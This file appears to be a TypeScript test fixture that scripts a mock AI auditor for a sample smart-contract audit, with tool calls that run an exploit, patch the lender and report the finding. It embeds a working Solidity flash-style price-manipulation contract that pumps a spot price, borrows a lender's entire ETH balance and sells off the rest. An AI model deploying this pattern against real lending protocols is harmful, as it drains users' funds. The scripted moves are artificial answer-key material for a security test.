import type { Respond } from '../models/test/modelServer.ts';

const SQUEEZE = `// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IToken {
    function approve(address spender, uint256 amount) external returns (bool);
}

interface IMarket {
    function buy(uint256 minimum) external payable returns (uint256);
    function sell(uint256 tokens, uint256 minimum) external returns (uint256);
    function spotPrice() external view returns (uint256);
}

interface ILender {
    function lock(uint256 amount) external;
    function borrow(uint256 amount) external;
}

contract Squeeze {
    function run(IToken token, IMarket market, ILender lender) external payable {
        uint256 bought = market.buy{value: msg.value}(0);
        uint256 cash = address(lender).balance;
        uint256 collateral = (cash * 2.02e18) / market.spotPrice() + 1;
        token.approve(address(lender), collateral);
        lender.lock(collateral);
        lender.borrow(cash);
        token.approve(address(market), bought - collateral);
        market.sell(bought - collateral, 0);
        (bool sent, ) = msg.sender.call{value: address(this).balance}("");
        require(sent);
    }

    receive() external payable {}
}
`;

const squeezeWith = (value: string) => ({
  source: SQUEEZE,
  contract: 'Squeeze',
  calls: [
    {
      from: '$attacker',
      to: '$poc',
      fn: 'run(address,address,address)',
      args: ['$token', '$market', '$lender'],
      value,
    },
  ],
});

const LENDER = 'src/HarborLender.sol';

/**
 * How a capable auditor works on the sample audit: it reads, suspects the spot price, buys too
 * little to move it, buys enough, writes a patch, and reports the one bug the baseline misses.
 */
const MOVES = [
  ['list_symbols', {}],
  ['read_file', { file: LENDER, from: 60, to: 136 }],
  ['run_exploit', squeezeWith('1000000000000000')],
  ['run_exploit', squeezeWith('50000000000000000000')],
  [
    'try_patch',
    {
      exploit: 'X1',
      edits: [
        {
          file: LENDER,
          startLine: 113,
          endLine: 113,
          replacement:
            '        uint256 spot = market.spotPrice();\n        return spot < anchorPrice ? spot : anchorPrice;',
        },
      ],
    },
  ],
  [
    'report_finding',
    {
      exploit: 'X1',
      title: 'Credit is granted at a spot price that one trade can move',
      class: 'price-manipulation',
      severity: 'high',
      confidence: 95,
      file: LENDER,
      startLine: 113,
      endLine: 113,
      function: 'creditPrice',
      rootCause: 'The credit limit values collateral at the reserves of the market at this moment.',
      impact: 'An attacker inflates the price, borrows all ETH of the lender and never repays.',
    },
  ],
  ['finish', { summary: 'one bug beyond the known ones' }],
] as const;

/** Tool calls until it is done. */
export const AUDITOR_STEPS = MOVES.length;
/** Tokens a step reports; the prompt grows by as much every step. */
const AUDITOR_USAGE = { input: 1000, output: 50 } as const;

/**
 * Plays that auditor, by the state of each conversation: several may run side by side. Whoever
 * asks about something else is told that nothing is to be done.
 */
export const harborAuditor: Respond = ({ body, tools }) => {
  const turns = body['messages'] as readonly { readonly role: string }[];
  const step = turns.filter(({ role }) => role === 'assistant').length;
  const [name, input] = (tools.includes('run_exploit') ? MOVES[step] : undefined) ?? MOVES[6];
  const { input: each, output } = AUDITOR_USAGE;
  return { calls: [{ name, input }], usage: { input: each * (step + 1), output } };
};
